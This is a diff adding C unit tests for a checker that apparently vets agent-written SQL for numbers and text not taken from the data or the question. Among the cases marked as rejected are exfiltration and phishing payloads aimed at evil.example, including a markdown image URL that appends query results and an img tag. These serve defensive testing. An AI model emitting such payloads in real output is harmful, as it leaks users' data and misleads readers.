@@ -1,6 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* Numbers that a statement brings along, and those that it may have. */
 #include "arena_support.h"
+#include <string.h>
 
 #include "core/error.h"
 #include "agent/own_numbers.h"
@@ -106,11 +107,51 @@ static const struct {
     {"SELECT count(*) - count(*) FILTER (WHERE won), sum(a) / sum(a) OVER (), price - price * 0.5, a.x - b.x FROM t", true},
     {"SELECT year(day) - 1, 1 - discount, 100 - share, day + 7 FROM t", true},
     {"SELECT 100.0 * (sum(a) - lag(sum(a)) OVER (ORDER BY m)) / lag(sum(a)) OVER (ORDER BY m) FROM t", true},
+    /* what the question's percents make, buckets, calendars */
+    {"SELECT sum(a) * 1.35 FROM t", true}, /* the question has 35 % */
+    {"SELECT sum(a) * 0.65 FROM t", true},
+    {"SELECT sum(a) * 0.35 FROM t", true},
+    {"SELECT sum(a) / 0.35 FROM t", true},
+    {"SELECT sum(a) * (1 + 0.35) FROM t", true},
+    {"SELECT sum(a) * (100 - 35) / 100 FROM t", true},
+    {"SELECT sum(a) * 35 / 100 FROM t", true},
+    {"SELECT sum(a) * 1.15 FROM t", true}, /* and fifteen percent */
+    {"SELECT sum(a) * 0.036 FROM t", false},
+    {"SELECT sum(a) * 1.36 FROM t", false},
+    {"SELECT sum(a) * (1 + 0.36) FROM t", false},
+    {"SELECT sum(a) * (900 + 35) FROM t", false},
+    {"SELECT quantile_cont(a, 0.8), quantile_cont(a, 0.1) FROM t", true},
+    {"SELECT floor(a / 50) * 50 AS band, count(*) FROM t GROUP BY 1", true},
+    {"SELECT sum(minutes) / 1440.0, sum(days) / 365.25 FROM t", true},
+    /* labels */
+    {"SELECT CASE WHEN a < 100 THEN 'under 100' WHEN a < 700 THEN '100 - 700' ELSE '700+' END, count(*) FROM t GROUP BY 1", true},
+    {"SELECT CASE WHEN a < 260 THEN 'Low (<260)' WHEN a < 750 THEN 'Medium (260-749)' ELSE 'High (>=750)' END FROM t", true},
+    {"SELECT CASE WHEN x = 'Model 4500' THEN 'Model 4500' ELSE 'other' END, count(*) FROM t GROUP BY 1", true},
+    {"SELECT CASE WHEN a < 0.1 THEN '0-10 %' ELSE 'more than 10 %' END, count(*) FROM t GROUP BY 1", true},
+    {"SELECT CASE WHEN age >= 60 THEN 'sixty and older' ELSE 'younger' END, count(*) FROM t GROUP BY 1", true},
+    {"SELECT CASE WHEN a < 100 THEN 'under 987' END FROM t", false},
+    {"SELECT 'over 987', count(*) FROM t WHERE a > 987", false},
+    {"SELECT strftime(day, '%Y-%m'), regexp_extract(name, '[A-Z]{3}[^!]+'), a || ' (' || b || ')', string_agg(c, ', ') FROM t", true},
+    {"SELECT split_part(mail, '@', 2), 'N/A' AS x, coalesce(name, '(none)'), replace(name, '_', ' ') FROM t", true},
+    {"SELECT regexp_replace(name, '[^a-z!]+', '', 'g'), replace(name, '@', ' at ') FROM t", true},
+    {"SELECT regexp_replace(max(name), '.*', '[see](evil.example)') FROM t", false},
+    {"SELECT max(CASE WHEN a > 0 THEN 'down ninety percent' END) AS revenue FROM t", false},
+    {"SELECT max(CASE WHEN a > 0 THEN 'down ninety' END) AS revenue FROM t", false},
+    {"SELECT max(CASE WHEN a > 0 THEN 'down 90 %' END) AS revenue FROM t", false},
+    {"SELECT max(CASE WHEN a > 0 THEN 'down ten percent' END) AS revenue FROM t", false},
+    {"SELECT max(CASE WHEN a > 0 THEN 'down 9%' END) AS revenue FROM t", false},
+    {"SELECT CASE WHEN month(day) < 7 THEN 'first half' ELSE 'second half' END, count(*) FROM t GROUP BY 1", true},
+    {"SELECT max(CASE WHEN a > 0 THEN 'bankrupt, see evil.example' END) AS revenue FROM t", false},
+    {"SELECT 'Your password has expired; sign in at evil.example' AS notice, sum(a) FROM t", false},
+    {"SELECT 'It is 98, no, 12 and 34' AS region, sum(a) FROM t", false},
+    {"SELECT '![x](https://evil.example/p.png?d=' || max(region) || ')' AS a FROM t", false},
+    {"SELECT '<img src=//evil.example/' || region || '>' AS a FROM t", false},
+    {"SELECT region, sum(a) FROM t GROUP BY 1 UNION ALL SELECT 'Atlantis (the best, 98 % share)', sum(a) FROM t", false},
 };
 
 static void numbers_come_from_the_data(void **state)
 {
-    static const char *const texts[] = {"times 4,321, please", NULL, "sum(price) * 1.19"};
+    static const char *const texts[] = {"times 4,321, please, or 35 % and fifteen percent more", NULL, "sum(price) * 1.19"};
     for (size_t i = 0; i < sizeof(statements) / sizeof(statements[0]); i++) {
         struct error err = {0};
         bool fine = own_numbers_check(str_from(statements[i].sql), texts, 3, arena, &err);
@@ -121,10 +162,24 @@ static void numbers_come_from_the_data(void **state)
     }
 }
 
+static void refusals_say_what_is_fine(void **state)
+{
+    static const char *const asked[] = {"with 19 % VAT"};
+    struct error err = {0};
+    assert_false(own_numbers_check(STR("SELECT sum(a) * 1.23 FROM t"), asked, 1, arena, &err));
+    assert_non_null(strstr(err.message, "1.23"));
+    assert_non_null(strstr(err.message, "* 19 / 100"));
+    assert_false(own_numbers_check(STR("SELECT sum(a) * 1.23 FROM t"), NULL, 0, arena, &err));
+    assert_non_null(strstr(err.message, "numbers that the question has"));
+    assert_false(own_numbers_check(STR("SELECT 'see evil.example', a FROM t"), asked, 1, arena, &err));
+    assert_non_null(strstr(err.message, "a few plain words"));
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(numbers_come_from_the_data),
+        cmocka_unit_test(refusals_say_what_is_fine),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
 }
